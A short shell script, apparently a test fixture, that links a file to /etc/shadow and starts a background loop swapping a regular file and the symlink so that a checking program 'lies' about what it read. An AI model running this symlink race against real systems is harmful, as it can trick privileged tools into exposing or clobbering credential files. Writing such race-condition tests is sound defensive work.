# Make the answer lie: a loop that goes on exchanging a file for a link after the main program ended.
echo good >good
ln -s /etc/shadow evil
(while :; do mv -T good x; mv -T evil good; mv -T good evil; mv -T x good; done 2>/dev/null) &
sleep 0.3
echo "OUTCOME: exchanging"
